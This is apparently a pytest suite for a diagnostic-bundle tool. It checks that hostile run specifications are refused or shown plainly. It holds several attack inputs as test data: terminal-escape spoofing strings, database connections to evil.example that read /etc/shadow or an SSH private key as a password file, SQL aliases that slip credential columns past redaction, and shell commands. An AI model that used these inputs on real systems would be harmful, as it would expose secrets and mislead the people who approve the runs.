"""Run instructions from an impostor: each attack reproduced, and shown not to get through.

Run instructions arrive by e-mail or ticket; anyone can pose as support. These tests write the
hostile spec first (they failed before the defence existed), then check the defence: a clear
one-line error and exit 2 before any work, or the attack shown on the plan as what it is.
"""

from __future__ import annotations

import json
import subprocess
import zipfile
from pathlib import Path
from typing import Optional

import pyte
import pytest

from tests.conftest import cli_env, koncis_cmd

SECRET = "Tr0ub4dor-and-3"


def run(args: list[str], timeout: float = 240) -> subprocess.CompletedProcess:
    return subprocess.run(
        koncis_cmd(*args),
        capture_output=True,
        text=True,
        timeout=timeout,
        env=cli_env(),
        stdin=subprocess.DEVNULL,
    )


def _server(tmp_path: Path, rules: Optional[str], extra_items: str = "") -> Path:
    conf = tmp_path / "conf"
    conf.mkdir()
    (conf / "server.xml").write_text(
        f'<Connector port="8443" keystorePass="{SECRET}" keystoreFile="/x.jks"/>\n'
        f"<password>{SECRET}</password>\n"
    )
    spec = tmp_path / "spec.yaml"
    text = (
        "version: 1\nname: ticket-1\ndescription: slow search\ncollect:\n"
        f"  - config: {{name: conf, paths: ['{conf}/*']}}\n{extra_items}"
    )
    if rules is not None:
        (tmp_path / "rules.yaml").write_text(rules)
        text += f"redact:\n  rules: ['{tmp_path / 'rules.yaml'}']\n"
    spec.write_text(text)
    return spec


DISABLE_ALL = "version: 1\nrules:\n  - {name: secret-keys, enabled: false}\n"


def test_a_spec_cannot_switch_off_secret_rules(tmp_path: Path) -> None:
    spec = _server(tmp_path, DISABLE_ALL)
    out = tmp_path / "out"
    out.mkdir()
    for command in (["plan"], ["collect", "--yes", "-o", str(out)]):
        done = run([*command, "--spec", str(spec)])
        assert done.returncode == 2, done.stdout + done.stderr
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1, done.stderr
        assert f"{tmp_path / 'rules.yaml'}:3:" in lines[0]
        assert "'secret-keys' disabled" in lines[0] and "--allow-weaker-redaction" in lines[0]
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(
    "rules,change",
    [
        ("  - {name: secret-keys, leak_check: false}\n", "left out of the leak check"),
        ("  - {name: secret-keys, keys: ['nothing']}\n", "keys"),
        (
            "  - name: sensitive-files\n    category: secret\n    files: ['*.nothing']\n",
            "files",
        ),
        ("  - {name: cookie-header, action: pseudonymize, shape: token}\n", "action"),
    ],
)
def test_loosening_a_protected_rule_is_refused(tmp_path: Path, rules: str, change: str) -> None:
    spec = _server(tmp_path, "version: 1\nrules:\n" + rules)
    done = run(["plan", "--spec", str(spec)])
    assert done.returncode == 2 and change in done.stderr, done.stderr


def test_adding_and_tightening_rules_is_fine_and_shown(tmp_path: Path) -> None:
    rules = (
        "version: 1\nrules:\n"
        "  - {name: ipv4, action: mask}\n"
        "  - name: ticket-id\n    pattern: 'TICKET-[0-9]{4}'\n"
    )
    spec = _server(tmp_path, rules)
    done = run(["plan", "--spec", str(spec)])
    assert done.returncode == 0, done.stderr
    assert "rules file " in done.stdout and "shipped rule ipv4: masked" in done.stdout


def test_allowed_weakening_is_shown_and_recorded(tmp_path: Path) -> None:
    spec = _server(tmp_path, DISABLE_ALL)
    done = run(["plan", "--spec", str(spec), "--allow-weaker-redaction"])
    assert done.returncode == 0, done.stderr
    assert "shipped rule secret-keys: disabled" in done.stdout
    out = tmp_path / "out"
    out.mkdir()
    args = ["collect", "--spec", str(spec), "--allow-weaker-redaction", "--yes", "-o", str(out)]
    unsigned = run(args)  # an unsigned spec that weakens redaction needs a second yes
    assert unsigned.returncode == 2 and "weaken the redaction rules secret-keys" in unsigned.stderr
    done = run([*args, "--allow-unsigned"])
    assert done.returncode in (0, 3), done.stderr
    bundles = list(out.iterdir())
    if bundles:  # the leak check may still stop it; if written, the choice is on record
        with zipfile.ZipFile(bundles[0]) as archive:
            consent = json.loads(
                next(archive.read(n) for n in archive.namelist() if n.endswith("consent.json"))
            )
        changes = consent["rule_changes_by_spec"]
        assert {"rule": "secret-keys", "change": "disabled"}.items() <= changes[0].items()


def test_the_admins_own_rules_are_the_admins_choice(tmp_path: Path) -> None:
    spec = _server(tmp_path, None)
    (tmp_path / "mine.yaml").write_text(DISABLE_ALL)
    done = run(["plan", "--spec", str(spec), "--rules", str(tmp_path / "mine.yaml")])
    assert done.returncode == 0, done.stderr


# ------------------------------------------------------------- a spoofed consent screen

SPOOF = "\x1b[2K\x1b[1A\x1b[2K\rjava -version\u202e"


def _screen(output: str) -> list[str]:
    screen = pyte.Screen(200, 80)
    stream = pyte.Stream(screen)
    stream.feed(output.replace("\n", "\r\n"))
    return [line.rstrip() for line in screen.display]


def test_no_spec_text_moves_the_cursor(tmp_path: Path) -> None:
    """Double-quoted YAML escapes put terminal controls into the description, a command's
    argv and SQL: the plan shows them as text, and every line of the plan stays on the
    screen (nothing is drawn over)."""
    extra = (
        '  - command: {name: version, argv: ["sh", "-c", "touch /tmp/x'
        + SPOOF.encode("unicode_escape").decode().replace("\\x1b", "\\e")
        + '"], env: {X: "'
        + SPOOF.encode("unicode_escape").decode().replace("\\x1b", "\\e")
        + '"}}\n'
    )
    spec = _server(tmp_path, None, extra)
    text = spec.read_text().replace(
        "description: slow search",
        'description: "slow\\e[2K\\e[1A\\rnothing to see"',
    )
    spec.write_text(text)
    done = run(["plan", "--spec", str(spec)])
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout and "\r" not in done.stdout and "\u202e" not in done.stdout
    screen = _screen(done.stdout)
    shown = "\n".join(screen)
    assert "sh -c" in shown and "touch /tmp/x\\x1b[2K\\x1b[1A" in shown
    assert "X='\\x1b[2K\\x1b[1A\\x1b[2K\\x0djava -version" in shown  # env: shown, escaped
    assert "slow\\x1b[2K\\x1b[1A\\x0dnothing to see" in shown
    # the screen holds every line the plan printed, in order
    printed = [line.rstrip() for line in done.stdout.splitlines()]
    assert [line for line in screen if line] == [line for line in printed if line]


# ------------------------------------------------------------- the tool's own secrets


def test_the_pseudonym_mapping_is_never_a_query_or_file_target(tmp_path: Path) -> None:
    """A first run fills the private mapping; a second run's spec asks for it (as a query and
    as a file): neither reaches the bundle."""
    import os
    import sqlite3

    state = Path(os.environ["XDG_STATE_HOME"]) / "koncis-diag"
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "auth.log").write_text(
        "May  2 09:10:05 node1 sshd[20610]: Accepted publickey for zorbo.quill from 10.2.3.4 "
        "port 60211 ssh2\n"
    )
    out = tmp_path / "out"
    out.mkdir()
    first = run(["collect", "--files", f"{logs}/*", "--no-system", "--yes", "-o", str(out)])
    assert first.returncode == 0, first.stderr
    mapping = state / "pseudonyms.sqlite3"
    with sqlite3.connect(mapping) as conn:
        assert conn.execute("SELECT count(*) FROM pseudonyms").fetchone()[0] >= 1
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: steal\ncollect:\n"
        f"  - query: {{name: map, database: 'sqlite:///{mapping}', "
        "sql: 'SELECT original FROM pseudonyms'}\n"
        f"  - files: {{name: state, paths: ['{state}/*']}}\n"
    )
    out2 = tmp_path / "out2"
    out2.mkdir()
    done = run(["collect", "--spec", str(spec), "--yes", "-o", str(out2), "--json"])
    assert done.returncode in (0, 1), done.stderr
    for bundle in out2.iterdir():
        with zipfile.ZipFile(bundle) as archive:
            for name in archive.namelist():
                assert b"zorbo" not in archive.read(name), name
                assert "pseudonym" not in name.rsplit("/", 1)[-1], name


def test_a_wal_database_gets_no_side_files(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "app.db"
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("CREATE TABLE t (x)")
    conn.execute("INSERT INTO t VALUES (1)")
    conn.commit()
    conn.close()  # the last connection checkpoints and removes -wal/-shm
    before = sorted(p.name for p in tmp_path.iterdir())
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: wal\ncollect:\n"
        f"  - query: {{name: t, database: 'sqlite:///{db}', sql: 'SELECT x FROM t'}}\n"
    )
    out = tmp_path / "out"
    out.mkdir()
    done = run(["collect", "--spec", str(spec), "--yes", "-o", str(out)])
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "out") == sorted(
        [*before, "spec.yaml"]
    )


# ------------------------------------------------------------ passwords where meant


@pytest.mark.parametrize(
    ("connection", "needle"),
    [
        (
            '{url: "postgresql://jira@evil.example/jira", password_env: KONCIS_DB_PASSWORD}',
            "KONCIS_DB_PASSWORD holds the password of the application's own database",
        ),
        (
            '{url: "postgresql://jira@evil.example/jira", password_file: /etc/shadow}',
            "/etc/shadow cannot be a password file",
        ),
        (
            '{url: "postgresql://jira@evil.example/jira", password_file: /root/.ssh/id_rsa}',
            "/root/.ssh/id_rsa cannot be a password file",
        ),
    ],
)
def test_a_spec_cannot_route_passwords_elsewhere(
    tmp_path: Path, connection: str, needle: str
) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: c\nconnections:\n"
        f"  evil: {connection}\n"
        "collect:\n  - query: {name: q, database: evil, sql: SELECT 1}\n"
    )
    for command in (["plan"], ["collect", "--yes", "-o", str(tmp_path)]):
        done = run([*command, "--spec", str(spec)])
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith(f"error: {spec}:4:") and needle in done.stderr


def test_the_plan_names_remote_hosts_password_sources_and_identity_queries(
    tmp_path: Path,
) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: c\nconnections:\n"
        '  report: {url: "postgresql://ro@reports.example:5432/jira", password_env: REPORT_PW}\n'
        "collect:\n  - query: {name: q, database: report, sql: SELECT 1}\n"
        "redact:\n  identities:\n"
        "    - {database: report, sql: 'SELECT user_name, display_name FROM cwd_user'}\n"
    )
    done = run(["plan", "--spec", str(spec)])
    assert done.returncode == 0, done.stderr
    text = done.stdout
    assert "reports.example:5432/jira  (a remote host named by the run instructions)" in text
    assert "password from the environment variable REPORT_PW" in text
    assert "identity query on report" in text
    assert "SELECT user_name, display_name FROM cwd_user" in text


# --------------------------------------------------------------- signed run instructions


def _signed(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A spec that runs a program, a key pair from `spec keygen`, the spec signed with it."""
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: signed\ncollect:\n  - command: {name: os, argv: [uname, -s]}\n"
    )
    key = tmp_path / "support.key"
    made = run(["spec", "keygen", "-o", str(key), "--comment", "Anna at support"])
    assert made.returncode == 0, made.stderr
    assert oct(key.stat().st_mode & 0o777) == "0o600"
    signed = run(["spec", "sign", str(spec), "--key", str(key)])
    assert signed.returncode == 0, signed.stderr
    return spec, key, key.with_name("support.key.pub")


def test_a_signed_spec_runs_and_its_signer_is_recorded(tmp_path: Path) -> None:
    spec, _, public = _signed(tmp_path)
    planned = run(["plan", "--spec", str(spec), "--trust", str(public)])
    assert planned.returncode == 0, planned.stderr
    assert "signed by Anna at support (SHA256:" in planned.stdout
    out = tmp_path / "out"
    out.mkdir()
    done = run(["collect", "--spec", str(spec), "--trust", str(public), "--yes", "-o", str(out)])
    assert done.returncode == 0, done.stderr
    (bundle,) = out.iterdir()
    with zipfile.ZipFile(bundle) as archive:
        consent = json.loads(
            next(archive.read(n) for n in archive.namelist() if n.endswith("consent.json"))
        )
    assert consent["spec"]["status"] == "signed"
    assert consent["spec"]["signer"] == "Anna at support"
    assert consent["spec"]["key_id"].startswith("SHA256:") and consent["spec"]["sha256"]


def test_a_changed_spec_or_an_untrusted_key_reads_nothing(tmp_path: Path) -> None:
    spec, _, public = _signed(tmp_path)
    other = tmp_path / "other.key"
    assert run(["spec", "keygen", "-o", str(other)]).returncode == 0
    untrusted = run(["plan", "--spec", str(spec), "--trust", f"{other}.pub"])
    assert untrusted.returncode == 2 and "not among the trusted keys" in untrusted.stderr
    spec.write_text(spec.read_text().replace("uname, -s", "sh, -c, 'touch /tmp/owned'"))
    changed = run(["collect", "--spec", str(spec), "--trust", str(public), "--yes"])
    assert changed.returncode == 2
    assert "the signature does not match" in changed.stderr
    assert len(changed.stderr.strip().splitlines()) == 1


def test_an_unsigned_spec_that_runs_programs_needs_allow_unsigned(tmp_path: Path) -> None:
    spec, _, _ = _signed(tmp_path)
    spec.with_name("spec.yaml.sig").unlink()
    out = tmp_path / "out"
    out.mkdir()
    refused = run(["collect", "--spec", str(spec), "--yes", "-o", str(out)])
    assert refused.returncode == 2 and "not signed and they would run 1 program" in refused.stderr
    assert list(out.iterdir()) == []
    planned = run(["plan", "--spec", str(spec)])
    assert "UNSIGNED" in planned.stdout and "would run 1 program" in planned.stdout
    allowed = run(["collect", "--spec", str(spec), "--yes", "--allow-unsigned", "-o", str(out)])
    assert allowed.returncode == 0, allowed.stderr


def test_unsigned_specs_that_only_read_and_profiles_need_nothing(tmp_path: Path) -> None:
    spec = _server(tmp_path, None)
    out = tmp_path / "out"
    out.mkdir()
    done = run(["collect", "--spec", str(spec), "--yes", "-o", str(out)])
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("kind", ["another user's", "a link", "world-writable"])
def test_a_state_folder_that_is_not_ours_is_refused(tmp_path: Path, kind: str) -> None:
    """Under sudo, HOME may point into another user's folder: a planted pseudonyms.sqlite3 link
    made root chmod another file, and the other user could read the mapping root wrote."""
    import os

    if os.geteuid() != 0 and kind == "another user's":
        pytest.skip("needs root to give the folder to another user")
    state_home = tmp_path / "state"
    state_home.mkdir()
    folder = state_home / "koncis-diag"
    if kind == "a link":
        (tmp_path / "elsewhere").mkdir(mode=0o700)
        folder.symlink_to(tmp_path / "elsewhere")
    else:
        folder.mkdir(mode=0o700)
        if kind == "world-writable":
            folder.chmod(0o777)
        else:
            os.chown(folder, 65534, 65534)
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "a.log").write_text("hello from 10.1.2.3\n")
    env = cli_env(XDG_STATE_HOME=str(state_home))
    done = subprocess.run(
        koncis_cmd("collect", "--files", f"{logs}/*", "--no-system", "--yes", "-o", str(tmp_path)),
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 2, done.stderr
    assert f"state folder {folder}" in done.stderr and "refused" in done.stderr
    assert not list(tmp_path.glob("koncis-diag-*"))


# ------------------------------------------- found by an independent red team (issue 14)

SHADOWING_RULE = r"""version: 1
rules:
  - name: log-level
    category: pii
    action: pseudonymize
    shape: token
    pattern: '^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d ([\w-]+) .*'
    group: 1
"""


def test_a_new_spec_rule_cannot_shadow_the_secret_rules(tmp_path: Path) -> None:
    """A spec's new rule whose match spans the whole line (a `group` rule claims its whole
    match) used to hide every secret of the line from the shipped rules and the leak check:
    it now claims only the group it replaces, and the leak check leaves it out."""
    log = tmp_path / "data.log"
    log.write_text(
        "2024-05-01 10:00:00 INFO db connect password=Hunter2Secret! user=jdoe\n"
        "2024-05-01 10:00:01 INFO Authorization: Bearer abcdefSECRETtoken123\n"
        "2024-05-01 10:00:02 INFO url jdbc:postgresql://jira:Secr3tPW@db.acme.example/jira\n"
    )
    (tmp_path / "rules.yaml").write_text(SHADOWING_RULE)
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: shadow\ncollect:\n"
        f"  - files: {{name: logs, paths: ['{log}']}}\n"
        f"redact:\n  rules: ['{tmp_path / 'rules.yaml'}']\n"
    )
    out = tmp_path / "out"
    out.mkdir()
    done = run(["collect", "--spec", str(spec), "--yes", "-o", str(out)])
    assert done.returncode == 0, done.stderr
    (bundle,) = out.iterdir()
    with zipfile.ZipFile(bundle) as archive:
        data = next(archive.read(n) for n in archive.namelist() if n.endswith("data.log"))
    for secret in (b"Hunter2Secret", b"SECRETtoken", b"Secr3tPW"):
        assert secret not in data, data
    assert b" INFO " not in data  # the spec's own rule still applied to its group


def test_a_signature_covers_the_rules_files_of_the_spec(tmp_path: Path) -> None:
    """A rules file swapped beside a signed spec kept the "signed" label: the signature now
    covers the spec's rules files, and a rules file it does not cover is refused."""
    (tmp_path / "rules.yaml").write_text("version: 1\nrules:\n  - {name: ipv4, action: mask}\n")
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: signed\ncollect:\n  - system: {}\nredact: {rules: [rules.yaml]}\n"
    )
    key = tmp_path / "k"
    assert run(["spec", "keygen", "-o", str(key)]).returncode == 0
    assert run(["spec", "sign", str(spec), "--key", str(key)]).returncode == 0
    assert "covers: rules.yaml" in spec.with_name("spec.yaml.sig").read_text()
    trusted = ["--trust", f"{key}.pub"]
    assert run(["plan", "--spec", str(spec), *trusted]).returncode == 0
    (tmp_path / "rules.yaml").write_text(SHADOWING_RULE)
    swapped = run(["plan", "--spec", str(spec), *trusted])
    assert swapped.returncode == 2 and "the rules files it covers" in swapped.stderr
    (tmp_path / "other.yaml").write_text(SHADOWING_RULE)
    spec_text = spec.read_text().replace("[rules.yaml]", "[rules.yaml, other.yaml]")
    spec.write_text(spec_text)  # (the spec changed too: caught by its own hash first)
    assert run(["plan", "--spec", str(spec), *trusted]).returncode == 2


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT credential AS c FROM cwd_user",
        "SELECT hex(credential) FROM cwd_user",
        "SELECT CAST(credential AS int) FROM cwd_user",
        "SELECT email_address || '' AS x FROM cwd_user",
        "SELECT x FROM (SELECT credential AS x FROM cwd_user) s",
    ],
)
def test_a_query_cannot_rename_or_transform_a_sensitive_column(tmp_path: Path, sql: str) -> None:
    """Column rules redact by name: an alias, a function or an expression would carry a
    password or an e-mail address out unredacted (and a failing cast into the log)."""
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: cols\ncollect:\n"
        f"  - query: {{name: users, database: 'sqlite:///{tmp_path}/app.db', sql: \"{sql}\"}}\n"
    )
    for command in (["plan"], ["collect", "--yes", "-o", str(tmp_path)]):
        done = run([*command, "--spec", str(spec)])
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith(f"error: {spec}:4:") and "redacts by name" in done.stderr


def test_a_plain_sensitive_column_is_fine(tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: cols\ncollect:\n"
        f"  - query: {{name: users, database: 'sqlite:///{tmp_path}/app.db', "
        "sql: 'SELECT u.user_name, credential AS user_credential, count(*) AS n FROM cwd_user u'}\n"
    )
    assert run(["plan", "--spec", str(spec)]).returncode == 0


# ------------------------------------------------------------- the second yes, on a terminal


def _unsigned_command_spec(tmp_path: Path) -> tuple[Path, Path]:
    marker = tmp_path / "ran"
    spec = tmp_path / "unsigned.yaml"
    spec.write_text(
        "version: 1\nname: unsigned\ncollect:\n"
        f"  - command: {{name: touch, argv: [sh, -c, 'echo ran > {marker}']}}\n",
        encoding="utf-8",
    )
    return spec, marker


@pytest.mark.parametrize(("second", "written"), [("run unsigned", True), ("y", False), ("", False)])
def test_an_unsigned_spec_that_runs_programs_needs_a_typed_second_yes(
    tmp_path: Path, second: str, written: bool
) -> None:
    """On a terminal, 'y' to the plan is not enough for unsigned instructions that run a
    program: the admin must type 'run unsigned'; anything else runs nothing."""
    from tests.test_cli_e2e import _run_on_pty

    spec, marker = _unsigned_command_spec(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    answers = ["y", second, "y"] if written else ["y", second]
    result = _run_on_pty(["collect", "--spec", str(spec), "--no-system", "-o", str(out)], answers)
    assert "UNSIGNED" in result.stderr
    assert "Type 'run unsigned' to go on" in result.stderr
    assert "run 1 program" in result.stderr
    if written:
        assert result.returncode == 0, result.stderr
        assert marker.read_text() == "ran\n"
        [bundle] = list(out.iterdir())
        with zipfile.ZipFile(bundle) as archive:
            consent = json.loads(
                next(archive.read(n) for n in archive.namelist() if n.endswith("consent.json"))
            )
        assert consent["spec"]["status"] == "unsigned"
    else:
        assert result.returncode == 3, result.stderr
        assert not marker.exists()  # the program never ran
        assert list(out.iterdir()) == []


def test_files_swapped_after_the_signature_check_change_nothing(tmp_path: Path) -> None:
    """What is loaded is what the signature verified: a spec or rules file replaced between
    the check and its use (a race on a folder someone else can write) is not read again."""
    from koncis_diag.redaction.rules import load_rules_file
    from koncis_diag.spec import load_spec
    from koncis_diag.spec.signing import generate_key, sign_spec, verify_spec

    rules = tmp_path / "extra.yaml"
    rules.write_text(
        "version: 1\nrules:\n  - {name: ticket-ids, pattern: 'TCK-[0-9]+', category: pii}\n"
    )
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        "version: 1\nname: signed\ncollect: [system: {}]\nredact: {rules: [extra.yaml]}\n"
    )
    key = tmp_path / "key"
    generate_key(key, "Anna at support")
    sign_spec(spec, key, [str(rules)])
    trust = verify_spec(spec, [tmp_path / "key.pub"])
    assert trust.status == "signed"
    # the swap, after the check
    rules.write_text("version: 1\nrules:\n  - {name: secret-keys, enabled: false}\n")
    spec.write_text("version: 1\nname: swapped\ncollect: [system: {}]\n")
    assert load_spec(spec).name == "signed"
    assert [entry.name for entry in load_rules_file(rules)] == ["ticket-ids"]
